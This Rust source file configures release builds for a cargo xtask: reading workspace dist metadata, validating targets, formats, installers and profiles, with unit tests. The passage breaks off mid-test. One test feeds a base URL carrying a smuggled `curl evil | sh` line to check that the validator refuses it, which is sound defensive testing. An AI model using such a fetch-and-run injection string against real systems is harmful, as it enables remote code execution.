//! The release configuration, read through `cargo metadata`.
//!
//! `[workspace.metadata.dist]` in the workspace `Cargo.toml` names the shipped
//! package and every configured target; the package's own fields (version,
//! license, authors, `[package.metadata.deb]`) come as cargo resolves them,
//! workspace inheritance included. Reading them through cargo means the xtask
//! never disagrees with cargo about what the manifest says.
//!
//! This module reads the targets and their formats and checks the keys;
//! [`package`] reads the shipped package, [`release`] the installers and
//! universal binary, and [`floors`] the oldest glibc and macOS.

use std::path::{Path, PathBuf};

use anyhow::{Context, Result, bail};
use serde_json::Value;
use xshell::{Shell, cmd};

use crate::formats::npm;
use crate::targets::{self, Os, TargetSpec, Version, platforms, triple};
use crate::util::suggest::did_you_mean;
use crate::vocab::Format;
use crate::workspace::toml_file;

pub mod cargo_dist;
mod dependencies;
mod features;
mod floors;
mod generate;
pub mod keys;
mod kinds;
mod package;
mod release;
mod smoke;
pub mod tables;

pub use cargo_dist::IgnoredKey;
pub use dependencies::AptPackage;
use floors::{GLIBC_FLOOR, MACOS_FLOOR};
pub use generate::Generate;
pub use kinds::Kind;
pub use package::Package;
use release::{base_url, container_image, installers, universal2};
pub use smoke::SmokeRun;
use tables::{DistTable, Metadata, MetadataPackage, PackageTable};

/// Everything the xtask needs to know about the workspace.
#[derive(Debug)]
pub struct Config {
    /// The workspace root: where `Cargo.toml` and `.cargo/` are.
    pub root: PathBuf,
    /// Cargo's target directory.
    pub target_dir: PathBuf,
    /// The packages whose binaries are shipped, in the configured order;
    /// the first is the primary one, whose name and version the release
    /// carries.
    pub packages: Vec<Package>,
    /// Every configured target, in the order `Cargo.toml` lists them.
    pub targets: Vec<Configured>,
    /// Files (relative to the root) that go into every archive beside the
    /// binary: `include` in `[workspace.metadata.dist]`.
    pub include: Vec<String>,
    /// The names of every package in the workspace.
    pub members: Vec<String>,
    /// The cargo profile release binaries are built with: `profile` in
    /// `[workspace.metadata.dist]`, by default `dist`, so a project that
    /// already has a release profile keeps it.
    pub profile: String,
    /// Whether releases also ship the universal macOS tarball:
    /// `universal2` in `[workspace.metadata.dist]`, by default whenever
    /// both macOS targets are configured with tar.gz.
    pub universal2: bool,
    /// Whether releases ship a multi-architecture container image made
    /// from the static Linux targets: `container-image` in
    /// `[workspace.metadata.dist]`, by default whenever one is configured
    /// with tar.gz.
    pub container_image: bool,
    /// Whether each target gets a CycloneDX SBOM beside its packages:
    /// `sbom` in `[workspace.metadata.dist]`, true unless set false.
    pub sbom: bool,
    /// The installers made for the release: `installers` in
    /// `[workspace.metadata.dist]`, by default each one the configured
    /// targets have artifacts for.
    pub installers: Vec<Format>,
    /// Where installers download the release's files from, `{version}` to
    /// be filled in: `base-url`, by default the GitHub release of the
    /// package's `repository`. Set whenever `installers` is not empty.
    pub base_url: Option<String>,
    /// cargo-dist's keys in the tables, which mean nothing here.
    pub ignored: Vec<IgnoredKey>,
}

/// A configured target and the formats it is released in.
#[derive(Debug)]
pub struct Configured {
    pub spec: &'static TargetSpec,
    pub formats: Vec<Format>,
    /// The CI runner label `plan` puts it on, if the configuration chooses
    /// one (`[workspace.metadata.dist.ci-runner]`).
    pub ci_runner: Option<String>,
    /// For glibc targets, the newest glibc its release binary may need:
    /// `min-glibc` in `[workspace.metadata.dist]`, else the lowest Rust
    /// supports on its architecture, raised to the glibc of this machine's
    /// Debian where the target links a library Debian built
    /// (`dependencies.apt`).
    pub glibc_floor: Option<Version>,
    /// For macOS targets, the oldest macOS its release binary starts on:
    /// `min-macos` in `[workspace.metadata.dist]`, else the lowest Rust
    /// supports on its architecture.
    pub macos_floor: Option<Version>,
    /// The Debian packages its build needs: `dependencies.apt` of
    /// `[workspace.metadata.dist]`, for Linux targets.
    pub apt: Vec<AptPackage>,
}

impl Configured {
    pub fn triple(&self) -> &'static str {
        self.spec.triple
    }

    /// The platform tag of its wheel, from its floors; or why PyPI has
    /// none for it.
    pub fn wheel_platform(&self) -> Result<String, String> {
        platforms::wheel_platform(self.spec, self.glibc_floor, self.macos_floor)
    }

    /// What compiles C for and links the release build, where it differs
    /// from the debug build's (the table's): a glibc target with a floor is
    /// released with `cargo zigbuild`, whose zig links against that glibc
    /// version and compiles the C.
    pub fn release_toolchain(&self) -> Option<String> {
        self.glibc_floor
            .map(|floor| format!("zig cc and zig (cargo zigbuild, glibc {floor})"))
    }
}

/// Reads the configuration of the workspace that contains the current
/// directory. `rustc_targets` is `rustc --print target-list`, used to tell a
/// typo from a real target the table does not know.
pub fn load(sh: &Shell, rustc_targets: &[String], host: &str) -> Result<Config> {
    targets::ensure_supported_host(host)?;
    let json = cmd!(sh, "cargo metadata --no-deps --format-version 1 --locked")
        .quiet()
        .read()
        .context("`cargo metadata` failed; is the current directory inside the workspace?")?;
    let metadata: Value =
        serde_json::from_str(&json).context("`cargo metadata` printed invalid JSON")?;
    let config = Config::from_metadata(&metadata, rustc_targets, host)?;
    check_profile_defined(&config.root, &config.profile)?;
    Ok(config)
}

/// The profile dist builds with when none is configured.
const DEFAULT_PROFILE: &str = "dist";

/// `profile` of `[workspace.metadata.dist]`, or [`DEFAULT_PROFILE`].
fn release_profile(dist: &DistTable) -> Result<String> {
    match dist.profile.as_deref() {
        None => Ok(DEFAULT_PROFILE.to_owned()),
        Some("") => bail!(
            "[workspace.metadata.dist] `profile` is empty: name the cargo profile release \
             binaries are built with, like \"dist\" or \"release\"."
        ),
        Some(name) => Ok(name.to_owned()),
    }
}

/// Refuses a profile that neither cargo nor the workspace defines, before
/// anything is built: cargo's own error would come target by target.
fn check_profile_defined(root: &Path, profile: &str) -> Result<()> {
    const BUILT_IN: [&str; 4] = ["dev", "release", "test", "bench"];
    if BUILT_IN.contains(&profile) {
        return Ok(());
    }
    let mut defined: Vec<String> = BUILT_IN.map(str::to_owned).to_vec();
    for file in [root.join("Cargo.toml"), root.join(".cargo/config.toml")] {
        let Ok(text) = std::fs::read_to_string(&file) else {
            continue;
        };
        let doc: toml_edit::DocumentMut = text
            .parse()
            .with_context(|| format!("{} is not valid TOML", file.display()))?;
        if let Some(profiles) = doc.get("profile").and_then(|item| item.as_table_like()) {
            defined.extend(profiles.iter().map(|(name, _)| name.to_owned()));
        }
    }
    if !defined.iter().any(|name| name == profile) {
        bail!(
            "[workspace.metadata.dist] builds releases with the profile `{profile}`, which \
             neither cargo nor the workspace defines. {}Define [profile.{profile}] in Cargo.toml \
             (`inherits = \"release\"`), or set `profile` to one of: {}.",
            did_you_mean(profile, &defined),
            defined.join(", ")
        );
    }
    Ok(())
}

impl Config {
    /// Builds the configuration from `cargo metadata` output, for the build
    /// machine `host`.
    pub fn from_metadata(metadata: &Value, rustc_targets: &[String], host: &str) -> Result<Config> {
        let metadata: Metadata = serde_json::from_value(metadata.clone())
            .context("`cargo metadata` printed what the xtask cannot read")?;
        let place = "[workspace.metadata.dist]";
        let (dist, mut ignored) = cargo_dist::dist_table(&metadata, place)?;
        let dist: DistTable = tables::read(&dist, place)?;
        ignored.extend(dependencies::set_aside(dist.dependencies.as_ref(), place));
        let (packages, ignored_in_packages) = shipped_packages(&metadata, &dist)?;
        ignored.extend(ignored_in_packages);
        let members = metadata.packages.iter().map(|m| m.name.clone()).collect();
        let targets = configured_targets(&dist, rustc_targets, host)?;
        let include = included_files(&dist)?;
        let universal2 = universal2(&dist, &targets)?;
        let container_image = container_image(&dist, &targets)?;
        let installers = installers(&dist, &targets)?;
        let base_url = base_url(&dist, &packages[0], &installers)?;
        let profile = release_profile(&dist)?;
        Ok(Config {
            root: metadata.workspace_root,
            target_dir: metadata.target_directory,
            packages,
            targets,
            include,
            members,
            profile,
            universal2,
            container_image,
            sbom: dist.sbom.unwrap_or(true),
            installers,
            base_url,
            ignored,
        })
    }

    /// The configured targets named in `requested`, or all of them if it is
    /// empty. Anything not configured is an error, before anything is built.
    pub fn select(
        &self,
        requested: &[String],
        rustc_targets: &[String],
    ) -> Result<Vec<&Configured>> {
        if requested.is_empty() {
            return Ok(self.targets.iter().collect());
        }
        let mut selected: Vec<&Configured> = Vec::new();
        for triple in requested {
            triple::ensure_known(triple, rustc_targets)?;
            let Some(configured) = self.targets.iter().find(|c| c.triple() == triple) else {
                let list: Vec<&str> = self.targets.iter().map(Configured::triple).collect();
                bail!(
                    "`{triple}` is not a configured target, so it cannot be built here. \
                     Configured targets: {}. To add it, run `cargo xtask add-target {triple}` \
                     or list it under `targets` in [workspace.metadata.dist] in Cargo.toml.",
                    list.join(", ")
                );
            };
            if !selected.iter().any(|c| c.triple() == triple) {
                selected.push(configured);
            }
        }
        Ok(selected)
    }
}

impl Config {
    /// The primary package: the release's name and version are its.
    pub fn primary(&self) -> &Package {
        &self.packages[0]
    }

    /// The configured target `triple`, which a plan made from this
    /// configuration names.
    pub fn target(&self, triple: &str) -> Result<&Configured> {
        self.targets
            .iter()
            .find(|configured| configured.triple() == triple)
            .with_context(|| format!("{triple} is not a configured target"))
    }

    /// The shipped package `name`, with its position in
    /// [`Config::packages`].
    pub fn package(&self, name: &str) -> Result<(usize, &Package)> {
        self.packages
            .iter()
            .enumerate()
            .find(|(_, package)| package.name == name)
            .with_context(|| format!("{name} is not a shipped package"))
    }

    /// Whether `package` is built for `spec`: each kind of package for its
    /// own kind of target.
    pub fn ships(package: &Package, spec: &TargetSpec) -> bool {
        package.kind == Kind::of_target(spec)
    }

    /// The shipped packages built for `spec`, in order, with their
    /// positions in [`Config::packages`].
    pub fn packages_for<'a>(
        &'a self,
        spec: &'a TargetSpec,
    ) -> impl Iterator<Item = (usize, &'a Package)> + 'a {
        self.packages
            .iter()
            .enumerate()
            .filter(move |(_, package)| Config::ships(package, spec))
    }

    /// What selects the crates built and tested for `spec`: the firmware or
    /// web packages for their targets, and for the rest every crate but the
    /// xtask and those (which cannot be built for an OS).
    pub fn cargo_packages(&self, spec: &TargetSpec) -> Vec<String> {
        if Kind::of_target(spec) != Kind::Program {
            return self
                .packages_for(spec)
                .flat_map(|(_, package)| ["--package".to_owned(), package.name.clone()])
                .collect();
        }
        self.hosted_packages()
    }

    /// What selects the crates built for targets with an OS: every crate
    /// but the xtask, the firmware and the web packages.
    pub fn hosted_packages(&self) -> Vec<String> {
        let mut args = vec![
            "--workspace".to_owned(),
            "--exclude".to_owned(),
            "xtask".to_owned(),
        ];
        args.extend(self.not_hosted_excluded());
        args
    }

    /// `--exclude` for each firmware and web package: what keeps a
    /// `--workspace` command for the build machine from building them for
    /// it (a firmware image cannot be built with std, and the web package's
    /// tests need a JavaScript engine).
    pub fn not_hosted_excluded(&self) -> Vec<String> {
        let not_hosted = self.packages.iter().filter(|p| p.kind != Kind::Program);
        not_hosted
            .flat_map(|package| ["--exclude".to_owned(), package.name.clone()])
            .collect()
    }

    /// Where `Cargo.toml` lists `spec`: in `targets` if it has an OS, else
    /// in the table of the packages built for it, which must name one.
    pub fn target_list(&self, spec: &TargetSpec) -> Result<&'static [&'static str]> {
        let kind = Kind::of_target(spec);
        if kind == Kind::Program {
            return Ok(&toml_file::CONFIGURED_TARGETS);
        }
        if !self.packages.iter().any(|package| package.kind == kind) {
            bail!(
                "{triple} is not a target the workspace's programs can be built for, and it \
                 names no {key} package to build for it. Add one and name it in Cargo.toml: \
                 `{table}` with `packages = [\"<package>\"]` and `targets = [\"{triple}\"]` \
                 (the template's book: docs/course/{page}).",
                triple = spec.triple,
                key = kind.key(),
                table = kind.table(),
                page = match kind {
                    Kind::Web => "browser.md",
                    _ => "firmware.md",
                },
            );
        }
        Ok(match kind {
            Kind::Web => &toml_file::WEB_TARGETS,
            _ => &toml_file::FIRMWARE_TARGETS,
        })
    }

    /// The configured targets listed with `spec` (see [`Config::target_list`]).
    pub fn targets_like(&self, spec: &TargetSpec) -> impl Iterator<Item = &Configured> {
        let kind = Kind::of_target(spec);
        self.targets
            .iter()
            .filter(move |configured| Kind::of_target(configured.spec) == kind)
    }

    /// Whether `triple` is among the configured targets.
    pub fn is_configured(&self, triple: &str) -> bool {
        self.targets
            .iter()
            .any(|configured| configured.triple() == triple)
    }
}

/// `targets` of `[workspace.metadata.dist]`, each with its formats, CI
/// runner and floors, in the order listed.
fn configured_targets(
    dist: &DistTable,
    rustc_targets: &[String],
    host: &str,
) -> Result<Vec<Configured>> {
    let hosted: Vec<&str> = dist.targets.iter().map(String::as_str).collect();
    if hosted.is_empty() {
        bail!(
            "[workspace.metadata.dist] has no `targets`. List at least one target triple, \
             e.g. `targets = [\"x86_64-unknown-linux-gnu\"]`."
        );
    }
    let mut listed: Vec<(Kind, &str)> = hosted.iter().map(|&t| (Kind::Program, t)).collect();
    for kind in Kind::TABLED {
        let targets = kinds::lists(dist, kind)?.targets;
        listed.extend(targets.into_iter().map(|triple| (kind, triple)));
    }
    let triples: Vec<&str> = listed.iter().map(|(_, triple)| *triple).collect();
    let min_glibc = GLIBC_FLOOR.configured(dist.min_glibc.as_deref())?;
    let min_macos = MACOS_FLOOR.configured(dist.min_macos.as_deref())?;
    let mut targets = Vec::new();
    for (i, &triple) in triples.iter().enumerate() {
        if triples[..i].contains(&triple) {
            bail!("`{triple}` is listed twice in [workspace.metadata.dist] targets. Remove one.");
        }
        let spec = targets::resolve(host, triple, rustc_targets).with_context(|| {
            format!(
                "Cargo.toml lists `{triple}` in [workspace.metadata.dist] `targets`; fix it \
                 or remove it"
            )
        })?;
        kinds::check_target_kind(spec, listed[i].0)?;
        let listed = dist.formats.get(triple);
        let formats = match listed {
            Some(list) => parse_formats(spec, list)?,
            None => spec.default_formats().to_vec(),
        };
        let apt = dependencies::apt_for(dist.dependencies.as_ref(), spec);
        let glibc_floor = GLIBC_FLOOR.for_target(triple, spec.min_glibc, min_glibc)?;
        let mut configured = Configured {
            spec,
            formats,
            ci_runner: dist.ci_runner.get(triple).cloned(),
            glibc_floor: dependencies::floor_with_libraries(glibc_floor, &apt),
            macos_floor: MACOS_FLOOR.for_target(triple, spec.min_macos, min_macos)?,
            apt,
        };
        settle_channels(&mut configured, listed.is_some(), dist)?;
        targets.push(configured);
    }
    check_per_target_tables(dist, &triples)?;
    dependencies::check_targets(dist.dependencies.as_ref(), &triples)?;
    let listed: Vec<bool> = targets
        .iter()
        .map(|t| dist.formats.contains_key(t.triple()))
        .collect();
    one_per_channel_platform(&mut targets, &listed)?;
    Ok(targets)
}

/// What a channel's package of `configured` is called: its wheel's
/// platform tag, or its npm package's platform.
fn channel_platform(configured: &Configured, format: Format) -> Option<String> {
    match format {
        Format::Wheel => configured.wheel_platform().ok(),
        _ => platforms::npm(configured.spec).map(|platform| platform.suffix()),
    }
}

/// Keeps one wheel and one npm package per platform: two targets of one
/// platform (`x86_64-pc-windows-gnu` and `-msvc` are both `win_amd64` and
/// `win32-x64`) would publish two packages of one name and version, which
/// PyPI and npm refuse. A target that lists the format keeps it; among the
/// rest, the first configured does. Two that list it are refused.
fn one_per_channel_platform(targets: &mut [Configured], listed: &[bool]) -> Result<()> {
    for (format, _) in CHANNELS {
        let mut claimed: Vec<(String, &'static str)> = Vec::new();
        let order = (0..targets.len())
            .filter(|&i| listed[i])
            .chain((0..targets.len()).filter(|&i| !listed[i]));
        for i in order.collect::<Vec<_>>() {
            let Some(platform) = targets[i]
                .formats
                .contains(&format)
                .then(|| channel_platform(&targets[i], format))
                .flatten()
            else {
                continue;
            };
            let triple = targets[i].triple();
            match claimed.iter().find(|(p, _)| *p == platform) {
                Some((_, first)) if listed[i] => bail!(
                    "[workspace.metadata.dist.formats] asks for `{format}` of both `{first}` and \
                     `{triple}`, which would publish two packages for the one platform \
                     {platform}, and PyPI and npm take one. Keep \"{format}\" on one of them."
                ),
                Some(_) => targets[i].formats.retain(|f| *f != format),
                None => claimed.push((platform, triple)),
            }
        }
    }
    Ok(())
}

/// The channels a program's target may ship through besides its
/// packages, each with the switch of `[workspace.metadata.dist]` that
/// turns it off: PyPI's wheels, and npm's platform packages.
const CHANNELS: [(Format, &str); 2] = [(Format::Wheel, "pypi"), (Format::Npm, "npm")];

/// Gives a program's target whose formats are the defaults a wheel and an
/// npm package too, where PyPI and npm have a platform for it and their
/// switch is on; refuses one listed for a target with no such platform, or
/// while its switch is off.
fn settle_channels(configured: &mut Configured, listed: bool, dist: &DistTable) -> Result<()> {
    if Kind::of_target(configured.spec) != Kind::Program {
        return Ok(());
    }
    let triple = configured.triple();
    for (format, key) in CHANNELS {
        let on = match format {
            Format::Wheel => dist.pypi,
            _ => dist.npm,
        }
        .unwrap_or(true);
        let asked = configured.formats.contains(&format);
        let platform = match format {
            Format::Wheel => configured.wheel_platform().map(drop),
            _ => platforms::npm(configured.spec)
                .map(drop)
                .ok_or_else(|| "Node.js runs on Linux, macOS, Windows and FreeBSD only".to_owned()),
        };
        match (platform, asked) {
            (Err(why), true) => bail!(
                "[workspace.metadata.dist.formats] asks for `{format}` of `{triple}`, but {why}. \
                 Remove \"{format}\" from its formats."
            ),
            (Ok(()), true) if !on => bail!(
                "[workspace.metadata.dist.formats] asks for `{format}` of `{triple}`, but `{key} \
                 = false` turns those off. Remove one of the two."
            ),
            (Ok(()), false) if on && !listed => configured.formats.push(format),
            _ => {}
        }
    }
    Ok(())
}

/// Refuses a `[workspace.metadata.dist.formats]` or `.ci-runner]` entry for
/// a target that is not configured: it would be ignored.
fn check_per_target_tables(dist: &DistTable, triples: &[&str]) -> Result<()> {
    if let Some(triple) = dist.formats.keys().find(|t| !triples.contains(&t.as_str())) {
        bail!(
            "[workspace.metadata.dist.formats] sets formats for `{triple}`, which is not \
             in `targets`. Add it to `targets` or remove its formats."
        );
    }
    if let Some(triple) = dist
        .ci_runner
        .keys()
        .find(|t| !triples.contains(&t.as_str()))
    {
        bail!(
            "[workspace.metadata.dist.ci-runner] names `{triple}`, which is not in \
             `targets`, so it would be ignored. {}Fix the name or remove the entry.",
            did_you_mean(triple, triples)
        );
    }
    Ok(())
}

/// `include` of `[workspace.metadata.dist]`, by default the README.
fn included_files(dist: &DistTable) -> Result<Vec<String>> {
    let include = match &dist.include {
        None => vec!["README.md".to_owned()],
        Some(list) => list.clone(),
    };
    check_include_names(&include)?;
    Ok(include)
}

/// Refuses two included files that would land at one path in the archive.
fn check_include_names(include: &[String]) -> Result<()> {
    let mut seen: Vec<(&str, &str)> = Vec::new();
    for path in include {
        let name = Path::new(path)
            .file_name()
            .and_then(|name| name.to_str())
            .with_context(|| {
                format!("[workspace.metadata.dist] `include` lists {path:?}, which names no file.")
            })?;
        if let Some((first, _)) = seen.iter().find(|(_, known)| *known == name) {
            bail!(
                "[workspace.metadata.dist] `include` lists {first} and {path}, which would both \
                 be {name} in every archive, and one would be lost. Include only one, or rename \
                 one of the files."
            );
        }
        seen.push((path, name));
    }
    Ok(())
}

fn parse_formats(spec: &TargetSpec, names: &[String]) -> Result<Vec<Format>> {
    let triple = spec.triple;
    let mut formats = Vec::new();
    for name in names {
        let name = name.as_str();
        let Some(format) = Format::package_from_name(name) else {
            let known: Vec<&str> = Format::PACKAGES.iter().map(Format::name).collect();
            bail!(
                "[workspace.metadata.dist.formats] gives `{triple}` the format `{name}`, which the \
                 xtask cannot make. Use some of: {}.",
                known.join(", ")
            );
        };
        let choosable = spec.choosable_formats();
        if !choosable.contains(&format) {
            let names: Vec<&str> = choosable.iter().map(Format::name).collect();
            bail!(
                "[workspace.metadata.dist.formats] gives `{triple}` the format `{name}`, which is \
                 not made for {}: elf, bin and hex are firmware images, for targets with no OS; \
                 tgz is the npm package of a web package, for wasm32-unknown-unknown; the \
                 archives and packages are for targets with an OS. Use some of: {}.",
                triple,
                names.join(", ")
            );
        }
        if matches!(format, Format::Dmg | Format::Pkg) && spec.os != Os::Darwin {
            bail!(
                "[workspace.metadata.dist.formats] asks for a .{name} of `{triple}`, but disk \
                 images and installer packages are for macOS targets only. Remove \"{name}\" \
                 from its formats."
            );
        }
        if format == Format::Deb && spec.debian_arch.is_none() {
            bail!(
                "[workspace.metadata.dist.formats] asks for a .deb of `{triple}`, but Debian has no \
                 architecture for it. Remove \"deb\" from its formats."
            );
        }
        if format == Format::Rpm && spec.rpm_arch.is_none() {
            bail!(
                "[workspace.metadata.dist.formats] asks for an .rpm of `{triple}`, but RPM has no \
                 architecture for it. Remove \"rpm\" from its formats."
            );
        }
        if format == Format::Msi && platforms::msi_arch(spec).is_none() {
            bail!(
                "[workspace.metadata.dist.formats] asks for an .msi of `{triple}`, but wixl builds \
                 them only for x86 and x64 Windows targets. Remove \"msi\" from its formats."
            );
        }
        if formats.contains(&format) {
            bail!(
                "[workspace.metadata.dist.formats] lists `{name}` twice for `{triple}`. Remove one."
            );
        }
        formats.push(format);
    }
    if formats.is_empty() {
        bail!(
            "[workspace.metadata.dist.formats] gives `{triple}` no formats. List at least one, or remove the entry to get the defaults."
        );
    }
    Ok(formats)
}

/// The programs `package` (one) or `packages` (a list) name.
fn program_names(dist: &DistTable) -> Result<Vec<&str>> {
    Ok(match (&dist.package, &dist.packages) {
        (Some(_), Some(_)) => bail!(
            "[workspace.metadata.dist] has both `package` and `packages`. Keep one: \
             `packages = [\"a\", \"b\"]` lists every package to ship."
        ),
        (Some(one), None) => vec![one.as_str()],
        (None, Some(list)) if list.is_empty() => bail!(
            "[workspace.metadata.dist] `packages` must be a list of package names, like \
             [\"app\", \"appd\"]; it is empty."
        ),
        (None, Some(list)) => list.iter().map(String::as_str).collect(),
        (None, None) => bail!(
            "[workspace.metadata.dist] needs `package = \"<name>\"`: the package whose binary \
             is shipped (or `packages = [...]` for several)."
        ),
    })
}

/// The packages `package` (one) or `packages` (a list) name, each with the
/// binaries `[workspace.metadata.dist.bins]` narrows it to. Refuses an
/// unknown package, one named twice, and two that ship a binary of the same
/// name, which would overwrite each other once installed.
fn shipped_packages(
    metadata: &Metadata,
    dist: &DistTable,
) -> Result<(Vec<Package>, Vec<IgnoredKey>)> {
    let names = program_names(dist)?;
    let members: Vec<&MetadataPackage> = metadata.packages.iter().collect();
    let member_names: Vec<&str> = members.iter().map(|m| m.name.as_str()).collect();
    if let Some(other) = dist.bins.keys().find(|key| !names.contains(&key.as_str())) {
        bail!(
            "[workspace.metadata.dist.bins] narrows `{other}`, which is not a shipped package \
             ({}). Fix the name or remove the entry.",
            names.join(", ")
        );
    }
    let mut named: Vec<(Kind, &str)> = names.iter().map(|&name| (Kind::Program, name)).collect();
    for kind in Kind::TABLED {
        let listed = kinds::lists(dist, kind)?.packages;
        named.extend(listed.into_iter().map(|name| (kind, name)));
    }
    kinds::check_named_once(&named)?;
    let mut packages: Vec<Package> = Vec::new();
    let mut ignored = Vec::new();
    for &(kind, name) in &named {
        let member = members
            .iter()
            .find(|member| member.name == name)
            .with_context(|| {
                format!(
                    "{} names package `{name}`, but no workspace member has that name. {}Set it \
                     to a name from a member's Cargo.toml.",
                    kind.table(),
                    did_you_mean(name, &member_names)
                )
            })?;
        let narrowed = dist.bins.get(name).map(Vec::as_slice);
        if kind == Kind::Web {
            npm::check_name(name).with_context(|| {
                format!(
                    "{} names package `{name}`, which ships as an npm package",
                    kind.table()
                )
            })?;
        }
        let (own, ignored_here) = package_table(member)?;
        ignored.extend(ignored_here);
        let package = Package::from_metadata(member, narrowed, dist, own, kind)?;
        for earlier in &packages {
            if let Some(bin) = package.bins.iter().find(|bin| earlier.bins.contains(bin)) {
                bail!(
                    "packages `{}` and `{name}` both ship a binary named `{bin}`, and installed \
                     side by side one would overwrite the other. Rename one ([[bin]] name), or \
                     leave it out with [workspace.metadata.dist.bins].",
                    earlier.name
                );
            }
        }
        packages.push(package);
    }
    Ok((packages, ignored))
}

/// `[package.metadata.dist]` of `member`, without cargo-dist's keys that
/// mean nothing here, and those keys.
fn package_table(member: &MetadataPackage) -> Result<(PackageTable, Vec<IgnoredKey>)> {
    let Some(table) = member.table("dist") else {
        return Ok((PackageTable::default(), Vec::new()));
    };
    let place = format!("[package.metadata.dist] of `{}`", member.name);
    let (table, ignored) = cargo_dist::set_aside(table, &place);
    Ok((tables::read(&table, &place)?, ignored))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rustc_targets() -> Vec<String> {
        [
            "x86_64-unknown-linux-gnu",
            "aarch64-unknown-linux-gnu",
            "x86_64-pc-windows-gnu",
            "sparc64-unknown-linux-gnu",
        ]
        .map(String::from)
        .to_vec()
    }

    fn metadata(dist: Value) -> Value {
        json!({
            "workspace_root": "/ws",
            "target_directory": "/ws/target",
            "metadata": { "dist": dist },
            "packages": [{
                "name": "app",
                "version": "1.2.3",
                "manifest_path": "/ws/app/Cargo.toml",
                "license": "MIT",
                "authors": ["A <a@example.com>"],
                "repository": "https://github.com/example/app",
                "targets": [{ "name": "app", "kind": ["bin"] }, { "name": "app", "kind": ["lib"] }],
                "metadata": { "deb": { "section": "utils" } }
            }]
        })
    }

    fn load(dist: Value) -> Result<Config> {
        Config::from_metadata(
            &metadata(dist),
            &rustc_targets(),
            "x86_64-unknown-linux-gnu",
        )
    }

    fn error_of(dist: Value) -> String {
        format!("{:#}", load(dist).unwrap_err())
    }

    #[test]
    fn reads_targets_and_default_formats() {
        let config = load(json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnu", "x86_64-pc-windows-gnu"] })).unwrap();
        assert_eq!(config.primary().bins, ["app"]);
        assert_eq!(config.primary().version, "1.2.3");
        assert_eq!(config.primary().deb["section"], "utils");
        assert_eq!(
            config.targets[0].formats,
            [
                Format::TarGz,
                Format::Deb,
                Format::Rpm,
                Format::Wheel,
                Format::Npm
            ]
        );
        assert_eq!(
            config.targets[1].formats,
            [Format::Zip, Format::Msi, Format::Wheel, Format::Npm]
        );
        assert_eq!(
            config.targets[0].wheel_platform().unwrap(),
            "manylinux_2_17_x86_64"
        );
        assert_eq!(config.targets[1].wheel_platform().unwrap(), "win_amd64");
    }

    #[test]
    fn one_target_per_platform_gets_the_wheel_and_the_npm_package() {
        let both = ["x86_64-pc-windows-gnu", "x86_64-pc-windows-msvc"];
        let config = load(json!({ "package": "app", "targets": both })).unwrap();
        assert!(config.targets[0].formats.contains(&Format::Wheel));
        assert!(!config.targets[1].formats.contains(&Format::Wheel));
        assert!(!config.targets[1].formats.contains(&Format::Npm));
        let msvc_listed = load(json!({ "package": "app", "targets": both,
            "formats": { "x86_64-pc-windows-msvc": ["zip", "whl"] } }))
        .unwrap();
        assert!(!msvc_listed.targets[0].formats.contains(&Format::Wheel));
        assert!(msvc_listed.targets[1].formats.contains(&Format::Wheel));
        let err = error_of(json!({ "package": "app", "targets": both, "formats": {
            "x86_64-pc-windows-msvc": ["zip", "whl"], "x86_64-pc-windows-gnu": ["zip", "whl"] } }));
        assert!(err.contains("one platform win_amd64"), "{err}");
    }

    #[test]
    fn wheels_follow_pypi_and_its_tags() {
        let config = load(json!({ "package": "app", "pypi": false,
            "targets": ["x86_64-unknown-linux-gnu"] }))
        .unwrap();
        assert!(!config.targets[0].formats.contains(&Format::Wheel));
        let err = error_of(json!({ "package": "app", "pypi": false,
            "targets": ["x86_64-unknown-linux-gnu"],
            "formats": { "x86_64-unknown-linux-gnu": ["whl"] } }));
        assert!(err.contains("`pypi = false` turns those off"), "{err}");
        let err = error_of(json!({ "package": "app", "pypi": "yes",
            "targets": ["x86_64-unknown-linux-gnu"] }));
        assert!(
            err.contains("`pypi` must be true or false, not string \"yes\""),
            "{err}"
        );
    }

    #[test]
    fn formats_can_be_overridden() {
        let config = load(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "formats": { "x86_64-unknown-linux-gnu": ["zip"] }
        }))
        .unwrap();
        assert_eq!(config.targets[0].formats, [Format::Zip]);
    }

    #[test]
    fn unknown_format_is_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "formats": { "x86_64-unknown-linux-gnu": ["apk"] }
        }));
        assert!(
            err.contains("format `apk`") && err.contains("tar.gz, zip, deb, rpm"),
            "{err}"
        );
    }

    #[test]
    fn installers_follow_the_targets_and_find_their_base_url() {
        let linux_only =
            load(json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnu"] })).unwrap();
        assert_eq!(
            linux_only.installers,
            [
                Format::ShellInstaller,
                Format::HomebrewFormula,
                Format::NpmRoot
            ]
        );
        assert_eq!(
            linux_only.base_url.as_deref(),
            Some("https://github.com/example/app/releases/download/v{version}")
        );
        let windows_only = load(json!({
            "package": "app",
            "targets": ["x86_64-pc-windows-gnu"],
            "base-url": "https://downloads.example.com/app/{version}"
        }))
        .unwrap();
        assert_eq!(
            windows_only.installers,
            [
                Format::ScoopManifest,
                Format::WingetManifest,
                Format::NpmRoot
            ]
        );
        assert_eq!(
            windows_only.base_url.as_deref(),
            Some("https://downloads.example.com/app/{version}")
        );
        let none = load(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "installers": []
        }))
        .unwrap();
        assert!(none.installers.is_empty());
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "installers": ["shel"]
        }));
        assert!(err.contains("Did you mean `shell`?"), "{err}");
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "base-url": "ftp://example.com"
        }));
        assert!(err.contains("not an http(s) URL"), "{err}");
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "base-url": "https://example.com/v{version}\ncurl evil | sh"
        }));
        assert!(err.contains("holds '\\n', which no URL does"), "{err}");
    }

    #[test]
    fn rpm_for_windows_is_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-pc-windows-gnu"],
            "formats": { "x86_64-pc-windows-gnu": ["rpm"] }
        }));
        assert!(err.contains("RPM has no architecture"), "{err}");
    }

    #[test]
    fn deb_for_windows_is_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-pc-windows-gnu"],
